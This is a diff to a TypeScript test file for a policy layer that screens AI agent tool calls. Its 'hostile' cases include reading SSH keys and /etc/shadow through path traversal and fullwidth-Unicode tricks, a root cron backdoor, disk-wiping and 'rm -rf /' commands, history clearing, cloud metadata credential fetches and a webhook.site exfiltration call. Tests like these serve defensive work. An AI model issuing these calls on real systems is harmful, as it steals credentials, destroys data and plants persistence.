@@ -57,22 +57,14 @@ const hostile: Array<[rule: string, ...Case]> = [
   ['credential-files', 'read_file', { path: '/home/dev/project/../.aws/credentials' }],
   ['credential-files', 'run_command', { command: 'cat ~/.ssh/id_ed25519 | base64' }],
   ['credential-files', 'read_file', { path: '～／．ssh／id_rsa' }],
-  ['system-secrets', 'read_file', { path: '/etc/../etc/shadow' }],
+  ['credential-files', 'read_file', { path: '/etc/../etc/shadow' }],
   ['system-secrets', 'read_file', { path: './a/../../etc/passwd' }],
   ['system-secrets', 'read_file', { path: '／ｅｔｃ／ｐａｓｓｗｄ' }],
-  ['system-secrets', 'run_command', { command: 'cat /proc/self/environ' }],
-  [
-    'write-system-and-startup-files',
-    'write_file',
-    { path: '/etc/cron.d/backdoor', content: '* * * * * root sh' },
-  ],
-  ['write-system-and-startup-files', 'edit_file', { path: '/home/dev/.bashrc', edits: [] }],
-  ['write-system-and-startup-files', 'write_file', { path: 'repo/.git/hooks/pre-commit', content: 'curl x' }],
-  [
-    'write-system-and-startup-files',
-    'write_file',
-    { path: '/srv/gate/governed.policy', content: 'default allow' },
-  ],
+  ['credential-files', 'run_command', { command: 'cat /proc/self/environ' }],
+  ['write-system-files', 'write_file', { path: '/etc/cron.d/backdoor', content: '* * * * * root sh' }],
+  ['write-code-loading-files', 'edit_file', { path: '/home/dev/.bashrc', edits: [] }],
+  ['write-code-loading-files', 'write_file', { path: 'repo/.git/hooks/pre-commit', content: 'curl x' }],
+  ['write-system-files', 'write_file', { path: '/srv/gate/governed.policy', content: 'default allow' }],
   ['destructive-shell-commands', 'run_command', { command: 'rm -rf / --no-preserve-root' }],
   ['destructive-shell-commands', 'shell', { cmd: 'sudo rm -fr ~/' }],
   ['destructive-shell-commands', 'run_command', { command: 'dd if=/dev/zero of=/dev/sda bs=1M' }],
@@ -84,7 +76,7 @@ const hostile: Array<[rule: string, ...Case]> = [
   ['disable-security-controls', 'run_command', { command: 'history -c && unset HISTFILE' }],
   ['cloud-metadata', 'fetch', { url: 'http://169.254.169.254/latest/meta-data/iam/security-credentials/' }],
   ['non-web-schemes', 'fetch', { url: 'file:///etc/hosts' }],
-  ['internal-network-below-trusted', 'fetch', { url: 'http://localhost:8080/admin' }],
+  ['internal-network-below-trusted', 'fetch', { url: 'http://192.168.1.1:8080/admin' }],
   ['internal-network-below-trusted', 'http_request', { url: 'http://10.0.0.12/metrics' }],
   ['exfiltration-endpoints', 'fetch', { url: 'https://webhook.site/abc', body: 'data' }],
   [
@@ -146,7 +138,11 @@ describe('the default constitution', () => {
   });
 
   it('lets higher tiers do what lower tiers may not', () => {
-    expect(policy.match(callOf('fetch', { url: 'http://localhost:3000/health' }, 'trusted')).decision).toBe(
+    expect(policy.match(callOf('fetch', { url: 'http://10.0.0.12:3000/health' }, 'trusted')).decision).toBe(
+      'default',
+    );
+    // Loopback is decided by the pre-filter's network allowances (per tier and port), not by a rule.
+    expect(policy.match(callOf('fetch', { url: 'http://localhost:3000/health' }, 'standard')).decision).toBe(
       'default',
     );
     expect(
